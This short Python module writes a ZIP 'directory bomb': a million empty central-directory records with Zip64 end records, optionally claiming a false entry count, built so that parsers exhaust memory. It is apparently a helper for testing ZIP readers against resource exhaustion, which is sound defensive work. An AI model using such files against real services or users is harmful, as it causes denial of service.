"""A ZIP whose directory alone fills memory: 1,000,000 entries of nothing are 44 MiB of file and 370 MiB of objects."""

from __future__ import annotations

import struct
from typing import BinaryIO

_RECORD = struct.pack("<4s4B4H3L5H2L", b"PK\1\2", 20, 3, 20, *[0] * 8, 1, *[0] * 6) + b"a"


def write_directory_bomb(file: BinaryIO, entries: int, *, claimed: int | None = None) -> None:
    """Write it; ``claimed``: how many entries its end record speaks of, if not all."""
    for _ in range(entries):
        file.write(_RECORD)
    size = file.tell()
    count = entries if claimed is None else claimed
    file.write(struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, 0))
    file.write(struct.pack("<4sLQL", b"PK\6\7", 0, size, 1))
    file.write(struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
